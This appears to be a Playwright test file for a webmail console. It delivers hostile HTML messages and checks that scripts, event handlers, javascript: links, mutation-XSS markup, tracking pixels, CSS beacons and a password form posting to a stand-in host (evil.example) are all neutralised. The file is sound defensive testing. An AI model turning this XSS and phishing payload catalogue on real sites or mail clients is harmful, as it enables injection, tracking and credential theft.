// Mail is written by anybody. Each test opens a message with one trick and expects that nothing happens.
import type { FrameLocator, Page } from "@playwright/test";
import { call, deliver, expect, open, register, test as base, unique, type Person } from "./support/test.ts";

const test = base.extend<object, { victim: Person }>({
  victim: [async ({}, use) => use(await register("victim")), { scope: "worker" }],
});

const END = "The message is shown.";
/** What a trick does if it works. */
const HACK = "top.hacked=1;parent.hacked=1;window.hacked=1;document.title='hacked'";

interface Watch {
  frame: FrameLocator;
  /** Nothing ran, nothing was asked of another server, nothing moved. */
  expectNothing: () => Promise<void>;
}

function mime(from: string, to: string, subject: string, type: string, body: string): string {
  return [`From: ${from}`, `To: ${to}`, `Subject: ${subject}`, `Message-ID: <${unique("hostile")}@evil.example>`, "Date: Mon, 30 Nov 2026 10:00:00 +0000", "MIME-Version: 1.0", `Content-Type: ${type}`, "", body, ""].join("\n");
}

/** Delivers a message and opens its conversation. */
async function show(page: Page, victim: Person, raw: string): Promise<Watch> {
  await deliver("eve@evil.example", victim.mailbox, raw);
  const { threads } = await call(victim.key, "GET", "/v1/email/threads?limit=1");
  const events: string[] = [];
  const origin = () => new URL(page.url()).origin;
  await page.context().route(/^https?:\/\/([\w-]+\.)?evil\.example/, (route) => { events.push(`reached ${route.request().url()}`); return route.fulfill({ body: "" }); });
  page.on("request", (request) => { if (/^https?:/.test(request.url()) && !request.url().startsWith(`${origin()}/`) && page.url() !== "about:blank") events.push(`asked ${request.url()}`); });
  page.on("dialog", (dialog) => { events.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
  page.on("popup", (popup) => events.push(`popup ${popup.url()}`));
  await open(page, victim, `/pods/home/mail/${threads[0].thread_id}`);
  const address = page.url();
  const frame = page.frameLocator('iframe[title="Content of the message"]');
  const expectNothing = async () => {
    // Whatever was asked for by now has left before this reply comes.
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => fetch("/health").then(done)))));
    expect(events).toEqual([]);
    expect(page.url()).toBe(address);
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    expect(await page.title()).not.toContain("hacked");
    const frames = page.frames().filter((one) => one !== page.mainFrame());
    for (const one of frames) expect(new URL(one.url()).pathname).toBe("/console/mail-frame.html");
    for (const element of await page.locator("iframe").all()) {
      await expect(element).toHaveAttribute("sandbox", "allow-same-origin allow-popups allow-popups-to-escape-sandbox");
    }
  };
  return { frame, expectNothing };
}

async function showHtml(page: Page, victim: Person, html: string): Promise<Watch> {
  const watch = await show(page, victim, mime("Eve <eve@evil.example>", victim.mailbox, "Look", "text/html; charset=utf-8", `<p>${END}</p>\n${html}`));
  await expect(watch.frame.getByText(END)).toBeVisible();
  return watch;
}

/** Tricks that need no more than being looked at, and what must not be left of them. */
const TRICKS: [name: string, html: string, leftover: string][] = [
  ["a script", `<script>${HACK}</script><script src="https://evil.example/x.js"></script>`, "script"],
  ["event handlers", `<img src="x:" onerror="${HACK}"><body onload="${HACK}"><details open ontoggle="${HACK}"><summary>s</summary></details><input autofocus onfocus="${HACK}"><p onanimationstart="${HACK}" style="animation: x 1s">a</p><style>@keyframes x { from { color: red } }</style>`, "[onerror], [onload], [ontoggle], [onfocus], [onanimationstart], input"],
  ["a form that asks for a password", `<form id="f" action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:${HACK}">Go</button><input type="image" src="https://evil.example/i.png"></form>`, "form, input, button"],
  ["a meta element that goes elsewhere", `<meta http-equiv="refresh" content="0; url=https://evil.example/"><meta http-equiv="refresh" content="0; url=javascript:${HACK}">`, "meta[http-equiv=refresh]"],
  ["a base element", `<base href="https://evil.example/" target="_top"><a href="login">Sign in</a><img src="logo.png">`, "base[href], a[href], img[src]"],
  ["frames and plug-ins", `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>${HACK}</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><frameset><frame src="https://evil.example/f"></frameset><portal src="https://evil.example/p"></portal>`, "iframe, object, embed, frame, portal"],
  ["a script in an SVG picture", `<svg onload="${HACK}"><script>${HACK}</script><image href="https://evil.example/i.svg"/><use href="https://evil.example/u.svg#x"/><animate onbegin="${HACK}" attributeName="x" dur="1s"/><foreignObject><iframe srcdoc="x"></iframe></foreignObject><a xlink:href="javascript:${HACK}"><text>x</text></a></svg>`, "svg, script"],
  ["markup that changes when it is read again", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HACK}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x: onerror=${HACK}>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=${HACK}></style></form>`, "[onerror], math, noscript"],
  ["pictures that report the reading", `<img src="https://evil.example/pixel.gif?victim" width="1" height="1"><img srcset="https://evil.example/2x.png 2x"><picture><source srcset="https://evil.example/s.webp"><img alt=""></picture><video poster="https://evil.example/p.jpg"></video><audio src="https://evil.example/a.mp3" autoplay></audio><table background="https://evil.example/b.png"><tr><td background="//evil.example/c.png">x</td></tr></table><img src="//evil.example/d.gif">`, "[srcset], [poster], [background], video, audio, img[src]"],
  ["styles from elsewhere", `<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css"; @import url(https://evil.example/j.css); @font-face { font-family: x; src: url(https://evil.example/f.woff2) } p { font-family: x }</style>`, "link"],
  ["addresses in styles", `<style>p { background: url(https://evil.example/1.png) } .a { background-image: \\75rl(https://evil.example/2.png) } p::before { content: url("https://evil.example/3.png") } .b { background: image-set("https://evil.example/4.png" 1x) } p { --x: \\75rl(https://evil.example/5.png); list-style: var(--x) } p { cursor: url(https://evil.example/6.cur), auto }</style><p class="a" style="background:url(https://evil.example/7.png)">a</p><p class="b" style="border-image: u\\72l('//evil.example/8.png')">b</p>`, "link"],
  ["hints that open connections", `<link rel="preload" as="image" href="https://evil.example/a"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example"><link rel="prefetch" href="https://evil.example/b"><link rel="icon" href="https://evil.example/c"><link rel="manifest" href="https://evil.example/d">`, "link"],
  ["names that hide members of the document", `<img name="body"><img name="head"><a id="defaultView"></a><form name="documentElement"></form><img id="hacked"><img name="cookie"><div id="app">x</div>`, "#hacked, [name=body], #app"],
  ["a style element that ends early", `<style></style><script>${HACK}</script><img src=x: onerror=${HACK}></style><style><img src=x: onerror=${HACK}></style><xmp><img src=x: onerror=${HACK}></xmp><textarea><img title="</textarea><img src=x: onerror=${HACK}>"></textarea>`, "script, [onerror]"],
  ["elements that come to the front", `<dialog open>Your session ended</dialog><div popover="manual" id="p">x</div><div contenteditable autofocus tabindex="1" accesskey="s">x</div><marquee onstart="${HACK}">x</marquee>`, "dialog, [popover], [contenteditable], [accesskey]"],
];

for (const [name, html, leftover] of TRICKS) {
  test(`nothing comes of ${name}`, async ({ page, victim }) => {
    const { frame, expectNothing } = await showHtml(page, victim, html);
    await expect(frame.locator("body").locator(leftover)).toHaveCount(0);
    await expectNothing();
  });
}

test("a link with a script in it is no link", async ({ page, victim }) => {
  const { frame, expectNothing } = await showHtml(page, victim, `<a href="javascript:${HACK}">one</a><a href="&#106;ava&#9;script:${HACK}">two</a><a href="data:text/html,<script>${HACK}</script>">three</a><a href="vbscript:x">four</a><a href="/console/settings">five</a><a href="blob:https://evil.example/x">six</a>`);
  for (const name of ["one", "two", "three", "four", "five", "six"]) {
    await expect(frame.getByText(name, { exact: true })).not.toHaveAttribute("href");
    await frame.getByText(name, { exact: true }).click();
  }
  await expectNothing();
});

test("a link opens a page that cannot reach the console", async ({ page, victim }) => {
  const { frame } = await showHtml(page, victim, `<a href="https://evil.example/landing" target="_top" ping="https://evil.example/ping" rel="opener">Offer</a>`);
  const address = page.url();
  const [popup] = await Promise.all([page.waitForEvent("popup"), frame.getByText("Offer").click()]);
  await popup.waitForURL("https://evil.example/landing");
  expect(await popup.evaluate(() => [window.opener, document.referrer])).toEqual([null, ""]);
  expect(page.url()).toBe(address);
});

test("a message that covers everything covers its own frame only", async ({ page, victim }) => {
  const { expectNothing } = await showHtml(page, victim, `<style>html, body { position: fixed; inset: 0; z-index: 2147483647 }</style><div style="position:fixed;top:-9999px;left:-9999px;width:99999px;height:99999px;z-index:2147483647;background:red">x</div>`);
  await page.getByRole("button", { name: /^Back/ }).click({ trial: true });
  await page.getByRole("link", { name: "Calendar" }).click({ trial: true });
  await expectNothing();
});

test("a message of endless height scrolls in its frame", async ({ page, victim }) => {
  const { expectNothing } = await showHtml(page, victim, `<div style="height:10000000px">x</div><div style="height:300vh">y</div>`);
  const height = () => page.locator("iframe").evaluate((element) => element.getBoundingClientRect().height);
  await expect.poll(height).toBeGreaterThan(3000);
  expect(await height()).toBeLessThanOrEqual(4100);
  await expectNothing();
});

test("the frame runs and loads nothing, even what the console would put into it", async ({ page, victim }) => {
  const { expectNothing } = await showHtml(page, victim, "<p>Plain.</p>");
  const reached: string[] = [];
  await page.context().route(/evil\.example/, (route) => { reached.push(route.request().url()); return route.fulfill({ body: "" }); });
  const tried = await page.locator("iframe").evaluate((element: HTMLIFrameElement) => {
    const inside = element.contentDocument!;
    inside.body.innerHTML = `<img src="x:" onerror="top.hacked=1"><iframe srcdoc="<script>top.hacked=1</script>"></iframe>`;
    const script = inside.createElement("script");
    script.textContent = "top.hacked=1";
    inside.body.append(script);
    return inside.body.childElementCount;
  });
  expect(tried).toBe(3);
  await page.locator("iframe").evaluate((element: HTMLIFrameElement) => (element.contentDocument!.body.innerHTML = ""));
  expect(reached).toEqual([]);
  await expectNothing();
});

test("an attached SVG is not shown, and an attached page is saved, not opened", async ({ page, victim }) => {
  const part = (head: string[], body: string) => ["--b", ...head, "", body].join("\n");
  const raw = mime("Eve <eve@evil.example>", victim.mailbox, "Files", 'multipart/related; boundary="b"', [
    part(["Content-Type: text/html"], `<img src="cid:logo@evil"><p>${END}</p>`),
    part(["Content-Type: image/svg+xml; name=logo.svg", "Content-ID: <logo@evil>", "Content-Disposition: attachment; filename=logo.svg"], `<svg xmlns="http://www.w3.org/2000/svg" onload="${HACK}"><script>${HACK}</script></svg>`),
    part(["Content-Type: text/html; name=page.html", "Content-Disposition: attachment; filename=page.html"], `<script>${HACK}</script>`),
    "--b--",
  ].join("\n"));
  const { frame, expectNothing } = await show(page, victim, raw);
  await expect(frame.getByText(END)).toBeVisible();
  await expect(frame.locator("img[src]")).toHaveCount(0);
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: /page\.html/ }).click()]);
  expect(download.suggestedFilename()).toBe("page.html");
  await expectNothing();
});

test("markup in a name, a subject and a text is shown as it is written", async ({ page, victim }) => {
  const raw = mime(`"<img src=x: onerror=${HACK}>" <eve@evil.example>`, victim.mailbox, `<script>${HACK}</script>`, "text/plain; charset=utf-8", `<img src=x: onerror=${HACK}>\njavascript:alert(1)\nhttps://evil.example/"onclick="${HACK}\n${END}`);
  const { expectNothing } = await show(page, victim, raw);
  await expect(page.getByText(END).last()).toBeVisible();
  await expect(page.getByRole("heading", { name: "<script>" })).toBeVisible();
  await expect(page.getByRole("article").getByRole("link")).toHaveAttribute("href", "https://evil.example/");
  await expectNothing();
});

test("the original is shown as text", async ({ page, victim }) => {
  const { expectNothing } = await showHtml(page, victim, `<script>${HACK}</script>`);
  await page.getByRole("button", { name: "More about this message" }).click();
  await page.getByRole("menuitem", { name: "Show the original" }).click();
  await expect(page.getByRole("dialog").getByText(/<script>top\.hacked/)).toBeVisible();
  await expectNothing();
});

test("pictures of other servers load when somebody asks, and nothing else does", async ({ page, victim }) => {
  const { frame } = await showHtml(page, victim, `<img alt="Logo" src="https://evil.example/logo.png"><script src="https://evil.example/x.js"></script><link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css"; @font-face { font-family: x; src: url(https://evil.example/f.woff2) }</style><iframe src="https://evil.example/f"></iframe>`);
  const asked: (string | undefined)[] = [];
  page.on("request", (request) => { if (request.url().includes("evil.example")) asked.push(request.url(), request.headers()["referer"]); });
  const reply = page.waitForResponse("https://evil.example/logo.png");
  await page.getByRole("button", { name: "Show images" }).click();
  await reply;
  await expect(frame.getByText(END)).toBeVisible();
  expect(asked).toEqual(["https://evil.example/logo.png", undefined]);
  await expect(page.locator("iframe")).toHaveAttribute("src", "/console/mail-frame-with-images.html");
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
});
